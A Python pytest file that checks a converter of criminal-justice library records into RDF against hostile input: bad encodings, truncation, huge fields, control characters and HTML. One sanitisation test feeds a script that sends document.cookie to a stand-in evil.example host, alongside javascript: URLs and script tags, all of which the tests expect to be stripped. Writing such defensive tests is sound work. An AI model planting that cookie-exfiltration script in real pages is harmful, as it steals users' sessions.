"""Hostile input to the converter: every bad file is read correctly or refused naming the file.

Issue 7, "Bad records (converter)". Fixture files are in tests/data/hostile/ (see
tests/data/README.md); large or odd byte strings are made here, where the bytes are clearer.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pyoxigraph as ox
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from rdflib import Graph
from rdflib.compare import isomorphic

from kg.build import build
from kg.convert import convert_record, entity_triples, to_ntriples
from kg.errors import ReadError
from kg.formats import RDF_FORMATS
from kg.readers import read_path
from kg.readers.page import parse_page
from kg.readers.sanitise import MAX_PROSE, MAX_SHORT
from kg.readers.structured import KNOWN_FIELDS
from kg.record import Record
from kg.settings import Settings

HOSTILE = Path(__file__).parent / "data" / "hostile"
BASE = "http://localhost:5000/"
# rdflib's JSON-LD parser warns about its own use of ConjunctiveGraph on every parse
pytestmark = pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")
PAGE_SOURCE = "# source: https://www.ojp.gov/ncjrs/virtual-library/abstracts/hostile-test\n"

# XML 1.0 section 2.2, production [2] Char (what RDF/XML and OAI-PMH may hold)
XML_CHAR = set(range(0x20, 0xD800)) | {0x9, 0xA, 0xD} | set(range(0xE000, 0xFFFE))


def read_all(path: Path) -> list[Record | ReadError]:
    return list(read_path(path))


def only_record(path: Path) -> Record:
    (item,) = read_all(path)
    assert isinstance(item, Record), str(item)
    return item


def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def texts_of(record: Record) -> list[str]:
    """Every string a record would publish."""
    out: list[str] = []

    def walk(value) -> None:
        if isinstance(value, str):
            out.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    walk(record.content())
    return out


def graph_of(record: Record) -> tuple[Graph, str]:
    """The record's conversion (own triples and its entities), as N-Triples and parsed back."""
    converted = convert_record(record, base=BASE, modified="2024-01-01T00:00:00Z")
    triples = list(converted.triples)
    for view in converted.entities:
        addresses = [view.agent.address] if view.agent and view.agent.address else []
        triples += entity_triples(view, base=BASE, addresses=addresses)
    nt = "".join(to_ntriples(dict.fromkeys(triples)))
    return Graph().parse(data=nt, format="nt"), nt


def assert_round_trips(record: Record) -> None:
    """N-Triples parse with rdflib; every format pyoxigraph writes parses back isomorphic; the
    RDF/XML is well-formed XML 1.0 to a strict parser."""
    graph, nt = graph_of(record)
    quads = list(ox.parse(nt.encode("utf-8"), format=ox.RdfFormat.N_TRIPLES))
    for fmt in RDF_FORMATS:
        data = ox.serialize(quads, format=fmt.oxigraph)
        back = Graph().parse(data=data, format=fmt.rdflib)
        assert isomorphic(graph, back), f"{fmt.name} does not round-trip"
        if fmt.name == "rdfxml":
            etree.fromstring(data, etree.XMLParser(resolve_entities=False))


def assert_clean(record: Record) -> None:
    for text in texts_of(record):
        bad = [hex(ord(c)) for c in text if ord(c) not in XML_CHAR and ord(c) < 0x10000]
        assert not bad, f"{text!r} holds {bad}"


# -- empty and binary files ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.txt", "a.jsonl", "a.csv"])
@pytest.mark.parametrize("data", [b"", b"  \n\r\n\t\n", b"\xef\xbb\xbf\n"], ids=["0", "ws", "bom"])
def test_empty_file_is_refused_naming_it(tmp_path: Path, name: str, data: bytes) -> None:
    path = write(tmp_path, name, data)
    (error,) = read_all(path)
    assert isinstance(error, ReadError)
    assert error.file == str(path)
    assert "empty" in error.message


BINARIES = {
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "PDF"),
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01", "PNG"),
    "zip": (b"PK\x03\x04\x14\x00\x00\x00\x08\x00", "ZIP"),
    "gzip": (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "gzip"),
    "utf16": ("NCJ Number: 1\nTitle: wide\n".encode("utf-16"), "UTF-16"),
    "noise": (bytes(range(256)) * 4, "binary"),
}


@pytest.mark.parametrize("suffix", [".txt", ".jsonl", ".csv"])
@pytest.mark.parametrize("kind", BINARIES)
def test_binary_file_is_refused_saying_what_it_is(tmp_path: Path, suffix: str, kind: str) -> None:
    data, named = BINARIES[kind]
    path = write(tmp_path, "data" + suffix, data)
    (error,) = read_all(path)
    assert isinstance(error, ReadError)
    assert error.file == str(path)
    assert named in error.message


# -- encodings ------------------------------------------------------------------------------------


def test_utf8_bom_on_a_json_line(tmp_path: Path) -> None:
    line = json.dumps({"ncj": "1", "title": "Café"}, ensure_ascii=False)
    record = only_record(write(tmp_path, "bom.jsonl", b"\xef\xbb\xbf" + line.encode("utf-8")))
    assert record.title == "Café"


def test_utf8_bom_on_a_csv_header(tmp_path: Path) -> None:
    record = only_record(write(tmp_path, "bom.csv", b"\xef\xbb\xbfncj,title\n1,Caf\xc3\xa9\n"))
    assert (record.ncj, record.title) == ("1", "Café")


def test_latin1_page() -> None:
    record = only_record(HOSTILE / "latin1.txt")
    assert record.title == "Prévention de la criminalité au Québec"
    assert any("Windows-1252" in note and "line 2" in note for note in record.notes)


def test_mixed_encodings_line_by_line_and_within_a_line() -> None:
    records = read_all(HOSTILE / "mixed.jsonl")
    assert [r.title for r in records] == [
        "Café ’UTF-8’ line",
        "Victims’ Rights — Windows-1252 line",
        "Naïve “mixed” line",
        "Résumé in Latin-1",
    ]
    recoded = ["not valid UTF-8; decoded as Windows-1252" in r.notes for r in records]
    assert recoded == [False, True, True, True]


def test_mixed_encodings_in_a_page(tmp_path: Path) -> None:
    data = (
        "NCJ Number: 7\nTitle: Caf\u00e9 \u2019quoted\u2019\n".encode()
        + "Annotation: Victims\u2019 rights \u2014 a review.\n".encode("cp1252")
    )
    record = only_record(write(tmp_path, "mixed.txt", data))
    assert record.title == "Café ’quoted’"
    assert record.annotation == "Victims’ rights — a review."
    assert any("Windows-1252 (line 3)" in note for note in record.notes)


def test_mixed_encodings_in_csv_note_only_the_row(tmp_path: Path) -> None:
    data = b"ncj,title\n1,Caf\xc3\xa9\n2,Victims\x92 Rights\n"
    first, second = read_all(write(tmp_path, "m.csv", data))
    assert (first.title, second.title) == ("Café", "Victims’ Rights")
    assert first.notes == [] and second.notes == ["not valid UTF-8; decoded as Windows-1252"]


def test_undecodable_byte_names_file_and_line(tmp_path: Path) -> None:
    path = write(
        tmp_path, "bad.jsonl", b'{"ncj": "1", "title": "ok"}\n{"ncj": "2", "title": "\x81"}\n'
    )
    good, error = read_all(path)
    assert isinstance(good, Record) and good.title == "ok"
    assert isinstance(error, ReadError)
    assert (error.file, error.line) == (str(path), 2)
    assert "0x81" in error.message


# -- truncated input ------------------------------------------------------------------------------


def test_file_cut_inside_a_utf8_character(tmp_path: Path) -> None:
    data = "NCJ Number: 8\nTitle: Cut here \u2014".encode()[:-1]  # the dash's last byte lost
    record = only_record(write(tmp_path, "cut.txt", data))
    assert record.title == "Cut here"
    assert any("cut short" in note for note in record.notes)
    assert not any("Windows-1252" in note for note in record.notes)


def test_json_lines_cut_in_a_record() -> None:
    complete, error = read_all(HOSTILE / "truncated.jsonl")
    assert isinstance(complete, Record) and complete.title == "Complete"
    assert isinstance(error, ReadError)
    assert (error.file, error.line) == (str(HOSTILE / "truncated.jsonl"), 2)
    assert "cut short" in error.message


def test_csv_cut_inside_a_quoted_cell(tmp_path: Path) -> None:
    path = write(tmp_path, "cut.csv", 'ncj,title\n1,Whole\n2,"Half a\ntitle')
    whole, error = read_all(path)
    assert isinstance(whole, Record) and whole.title == "Whole"
    assert isinstance(error, ReadError)
    assert (error.file, error.line) == (str(path), 3)
    assert "cut short" in error.message


def test_page_with_only_a_source_line(tmp_path: Path) -> None:
    (error,) = read_all(write(tmp_path, "p.txt", PAGE_SOURCE))
    assert isinstance(error, ReadError) and error.file.endswith("p.txt")


# -- enormous fields -------------------------------------------------------------------------------


def test_five_megabyte_abstract_in_a_page_is_refused_quickly(tmp_path: Path) -> None:
    text = PAGE_SOURCE + "NCJ Number\n123\nAbstract\n" + "word " * 1_000_000 + "\n"
    path = write(tmp_path, "big.txt", text)
    started = time.monotonic()
    (error,) = read_all(path)
    assert time.monotonic() - started < 10
    assert isinstance(error, ReadError)
    assert (error.file, error.field) == (str(path), "abstract")
    assert f"{MAX_PROSE:,}" in error.message


def test_hundred_thousand_character_title_names_line_and_field(tmp_path: Path) -> None:
    lines = [{"ncj": "1", "title": "x" * 100_000}, {"ncj": "2", "title": "fine"}]
    path = write(tmp_path, "t.jsonl", "".join(json.dumps(r) + "\n" for r in lines))
    error, fine = read_all(path)
    assert isinstance(error, ReadError)
    assert (error.file, error.line, error.field) == (str(path), 1, "title")
    assert f"{MAX_SHORT:,}" in error.message
    assert len(str(error)) < 200  # the value is not quoted back
    assert isinstance(fine, Record) and fine.title == "fine"


def test_long_text_within_the_limit_is_kept(tmp_path: Path) -> None:
    abstract = ("A sentence of an abstract. " * 3000).strip()  # 80,999 characters
    record = only_record(
        write(tmp_path, "a.jsonl", json.dumps({"ncj": "1", "abstract": abstract, "title": "t"}))
    )
    assert record.abstract == abstract


def test_too_many_list_items(tmp_path: Path) -> None:
    data = {"ncj": "1", "title": "t", "subjects": [f"s{i}" for i in range(5000)]}
    (error,) = read_all(write(tmp_path, "l.jsonl", json.dumps(data)))
    assert isinstance(error, ReadError) and error.field == "subjects"


def test_over_long_json_line_is_skipped_and_the_next_read(tmp_path: Path) -> None:
    huge = json.dumps({"ncj": "1", "title": "t", "abstract": "y" * 17_000_000})
    path = write(tmp_path, "h.jsonl", huge + "\n" + json.dumps({"ncj": "2", "title": "next"}))
    error, after = read_all(path)
    assert isinstance(error, ReadError) and (error.file, error.line) == (str(path), 1)
    assert "longer than the limit" in error.message
    assert isinstance(after, Record) and (after.ncj, after.source_line) == ("2", 2)


def test_oversized_page_file_is_refused_unread(tmp_path: Path) -> None:
    path = write(tmp_path, "huge.txt", b"NCJ Number: 1\n" + b"a" * 10_000_001)
    (error,) = read_all(path)
    assert isinstance(error, ReadError) and "too large" in error.message


@pytest.mark.parametrize(
    "value", [99_999_999_999, -3, "1" * 5000, 1e400, [1], {"deep": [[[[[]]]]]}]
)
def test_absurd_length_is_a_clean_error(tmp_path: Path, value) -> None:
    line = json.dumps({"ncj": "1", "title": "t", "length": value})
    (error,) = read_all(write(tmp_path, "n.jsonl", line))
    assert isinstance(error, ReadError) and error.line == 1


@pytest.mark.parametrize(
    "line",
    ["[" * 100_000, '{"ncj": ' + "9" * 5000 + "}", '{"ncj": "1", "title": "t"} trailing', "[1, 2]"],
    ids=["deep", "huge-number", "trailing", "not-an-object"],
)
def test_json_that_breaks_parsers_is_a_clean_error(tmp_path: Path, line: str) -> None:
    path = write(tmp_path, "j.jsonl", line + '\n{"ncj": "2", "title": "after"}\n')
    error, after = read_all(path)
    assert isinstance(error, ReadError) and (error.file, error.line) == (str(path), 1)
    assert isinstance(after, Record) and after.title == "after"


def test_page_with_a_million_digit_length(tmp_path: Path) -> None:
    text = PAGE_SOURCE + "NCJ Number\n5\nLength\n" + "9" * 1_000_000 + " pages\n"
    record = only_record(write(tmp_path, "len.txt", text))
    assert record.pages is None


# -- characters and markup -------------------------------------------------------------------------


def test_control_characters_never_reach_a_literal() -> None:
    record = only_record(HOSTILE / "markup.jsonl")
    assert_clean(record)
    assert record.title == "Crime & Justice Review"
    assert record.annotation == "lone surrogate: end"
    # U+0092 is read as the Windows-1252 right quote, which the name tidying makes an apostrophe
    assert [a.name for a in record.authors] == ["Jennifer O'Brien"]
    assert_round_trips(record)


@pytest.mark.parametrize("char", [chr(c) for c in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20))])
def test_each_c0_control_in_a_page(tmp_path: Path, char: str) -> None:
    record = only_record(write(tmp_path, "c.txt", f"NCJ Number: 3\nTitle: A{char}B\n"))
    assert record.title in ("AB", "A B")
    assert_clean(record)


def test_nul_byte_in_a_page_means_binary(tmp_path: Path) -> None:
    (error,) = read_all(write(tmp_path, "n.txt", "NCJ Number: 3\nTitle: A\x00B\n"))
    assert isinstance(error, ReadError) and "binary" in error.message


@pytest.mark.parametrize(
    "char", ["\x7f", "\x81", "\x9d", "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\ud800", "\udfff"]
)
def test_each_non_xml_character_in_json(tmp_path: Path, char: str) -> None:
    line = json.dumps({"ncj": "1", "title": f"A{char}B", "authors": [f"Smith{char}, J"]})
    record = only_record(write(tmp_path, "c.jsonl", line))
    assert record.title == "AB"
    assert_clean(record)
    assert_round_trips(record)


def test_raw_line_separator_inside_a_json_string(tmp_path: Path) -> None:
    line = json.dumps({"ncj": "1", "title": "One\u2028Two"}, ensure_ascii=False)
    record = only_record(write(tmp_path, "ls.jsonl", line + "\n"))
    assert record.title == "One Two"


def test_html_fragments_become_plain_text() -> None:
    record = only_record(HOSTILE / "markup.jsonl")
    assert record.abstract == "First paragraph.\n\nSecond\nline <3\n\n- one\n- two"
    assert "alert" not in record.abstract
    assert record.subjects == ["Victims <NCJ 12345>"]  # not HTML: kept as written
    assert any("HTML markup made plain text in abstract, title" in n for n in record.notes)


@pytest.mark.parametrize(
    ("raw", "plain"),
    [
        ("<b>Bold</b> &amp; <em>bright</em>", "Bold & bright"),
        ("Police &#8220;Use of Force&#8221;", "Police “Use of Force”"),
        ("a < b and c > d", "a < b and c > d"),
        ("Before<script type='text/javascript'>document.cookie</script>After", "BeforeAfter"),
        ("<style>p {color: red}</style>Styled", "Styled"),
        ("Un<SCRIPT>closed script eats the rest", "Un"),
        ("<!-- a comment -->Shown", "Shown"),
        ("Text with &nbsp;space", "Text with space"),
        ("Line<br/>break", "Line break"),
        ("AT&T and R&D", "AT&T and R&D"),
    ],
)
def test_html_in_a_title(tmp_path: Path, raw: str, plain: str) -> None:
    record = only_record(write(tmp_path, "h.jsonl", json.dumps({"ncj": "1", "title": raw})))
    assert record.title == plain


def test_html_in_a_page_abstract(tmp_path: Path) -> None:
    text = (
        PAGE_SOURCE + "NCJ Number\n11\nAbstract\n<p>Intro &amp; aims.</p>\n"
        "<script>\nfetch('https://evil.example/'+document.cookie)\n</script>\n<p>Findings.</p>\n"
    )
    record = only_record(write(tmp_path, "h.txt", text))
    assert record.abstract == "Intro & aims.\n\nFindings."


def test_bad_urls_are_dropped_not_fatal(tmp_path: Path) -> None:
    data = {
        "ncj": "1",
        "title": "t",
        "source_url": "javascript:alert(1)",
        "links": ['PDF https://x.example/a"b.pdf', "HTML https://x.example/ok.html"],
    }
    record = only_record(write(tmp_path, "u.jsonl", json.dumps(data)))
    assert record.source_url is None
    assert [(link.label, link.url) for link in record.links] == [
        ("PDF", None),
        ("HTML", "https://x.example/ok.html"),
    ]
    assert_round_trips(record)


def test_record_with_nothing_left_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "s.jsonl", json.dumps({"title": "<script>x()</script>\u0000"}))
    (error,) = read_all(path)
    assert isinstance(error, ReadError) and error.file == str(path)


# -- duplicates and conflicts, through the build -------------------------------------------------


@pytest.fixture(scope="session")
def hostile_build(tmp_path_factory):
    """tests/data/hostile built on its own: the build must finish, whatever is in the folder."""
    data_dir = tmp_path_factory.mktemp("hostile-build")
    settings = Settings.from_env(
        environ={}, base=BASE, data_dir=data_dir, progress=False, workers=1
    )
    return build([HOSTILE], settings=settings), data_dir


def test_build_finishes_and_names_every_bad_file(hostile_build) -> None:
    summary, data_dir = hostile_build
    problems = {Path(p.file).name: p for p in summary.problems}
    assert set(problems) == {"empty.jsonl", "truncated.jsonl", "utf16.txt"}
    assert problems["truncated.jsonl"].line == 2
    assert summary.rejected == 0
    assert summary.published == summary.records == 9
    assert (data_dir / "current" / "dumps" / "kg.nt.gz").exists()


def test_duplicate_ncj_numbers_are_merged_and_reported(hostile_build) -> None:
    summary, data_dir = hostile_build
    conflicts = {c["field"]: c for c in summary.conflict_list if c["record"] == "900001"}
    # Rule (kg/merge.py): the longer text wins; equal rank: the first in input order.
    assert conflicts["title"]["chosen"] == "Hostile Input Duplicate, Revised Edition"
    assert conflicts["title"]["files"][0].endswith("duplicates.jsonl:3")
    assert conflicts["date_published"]["chosen"] == {"year": 2001, "month": None, "day": None}
    assert conflicts["abstract"]["files"][0].endswith("duplicate-page.txt")
    assert sorted(f.rsplit("/", 1)[-1] for f in conflicts["abstract"]["files"]) == [
        "duplicate-page.txt",
        "duplicates.jsonl:1",
        "duplicates.jsonl:3",
    ]
    report = json.loads((data_dir / "current" / "reports" / "build.json").read_text())
    assert {c["field"] for c in report["conflicts"] if c["record"] == "900001"} >= {
        "title",
        "abstract",
        "date_published",
    }


def test_the_merged_duplicate_is_one_record_in_the_graph(hostile_build) -> None:
    _, data_dir = hostile_build
    store = ox.Store.read_only(str(data_dir / "current" / "store"))
    titles = [
        row[0].value
        for row in store.query(
            "SELECT ?t WHERE { <http://localhost:5000/id/record/900001> "
            "<http://purl.org/dc/terms/title> ?t }"
        )
    ]
    assert titles == ["Hostile Input Duplicate, Revised Edition"]


# -- properties: any text anywhere gives valid RDF or a clean refusal ----------------------------

ANY_CHAR = st.characters(codec=None, exclude_categories=())  # lone surrogates included
ANY_TEXT = st.text(ANY_CHAR, max_size=40)
TRICKY_TEXT = st.one_of(
    ANY_TEXT,
    st.sampled_from(["<p>", "</script>", "&amp;", "&#0;", "\u2028", "\r\n", "]]>", '"', "\\"]),
    st.lists(st.sampled_from(["<b>", "x", " ", "&lt;", "\x00", "\ud800", "é", "\n"])).map("".join),
)
VALUE = st.one_of(
    TRICKY_TEXT,
    st.lists(TRICKY_TEXT, max_size=3),
    st.integers(),
    st.none(),
    st.booleans(),
    st.dictionaries(st.sampled_from(["name", "kind", "title", "label", "url"]), TRICKY_TEXT),
)
FIELD_NAMES = st.sampled_from(sorted(KNOWN_FIELDS))
RECORD_DATA = st.dictionaries(FIELD_NAMES, VALUE, max_size=8).map(
    lambda d: {"ncj": "123", "title": "Base Title", **d}
)
PROPERTY = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def assert_record_or_clean_error(items: list, path: Path) -> None:
    assert items, "a reader yielded nothing"
    for item in items:
        if isinstance(item, ReadError):
            assert item.file == str(path)
            assert item.message
        else:
            assert isinstance(item, Record)
            assert_clean(item)
            assert_round_trips(item)


@PROPERTY
@given(data=RECORD_DATA)
def test_any_json_record_converts_or_is_refused(tmp_path: Path, data: dict) -> None:
    path = tmp_path / "p.jsonl"
    path.write_text(json.dumps(data) + "\n", encoding="utf-8")  # ASCII: escapes carry it all
    assert_record_or_clean_error(read_all(path), path)


@PROPERTY
@given(data=RECORD_DATA)
def test_any_csv_row_converts_or_is_refused(tmp_path: Path, data: dict) -> None:
    import csv
    import io

    row = {k: json.dumps(v) if not isinstance(v, str) else v for k, v in data.items()}
    row = {k: v.encode("utf-8", "replace").decode("utf-8") for k, v in row.items()}
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    path = tmp_path / "p.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    assert_record_or_clean_error(read_all(path), path)


LABELS = ["Title", "NCJ Number", "Abstract", "Annotation", "Author(s)", "Journal", "Subject(s)"]
PAGE_TEXT = st.lists(
    st.one_of(TRICKY_TEXT, st.sampled_from(LABELS).map(lambda label: label + ": ")), max_size=12
).map("\n".join)


@PROPERTY
@given(body=PAGE_TEXT)
def test_any_page_text_converts_or_is_refused(tmp_path: Path, body: str) -> None:
    path = tmp_path / "p.txt"
    path.write_bytes(("NCJ Number: 9\n" + body).encode("utf-8", "surrogatepass"))
    assert_record_or_clean_error(read_all(path), path)


@PROPERTY
@given(data=st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(tmp_path: Path, data: bytes) -> None:
    for name in ("p.txt", "p.jsonl", "p.csv"):
        path = tmp_path / name
        path.write_bytes(data)
        assert_record_or_clean_error(read_all(path), path)


@PROPERTY
@given(text=st.text(ANY_CHAR, max_size=200))
def test_parse_page_on_any_string(text: str) -> None:
    item = parse_page(text, source_file="x.txt")
    if isinstance(item, ReadError):
        assert item.file == "x.txt"
    else:
        assert_clean(item)
        assert_round_trips(item)
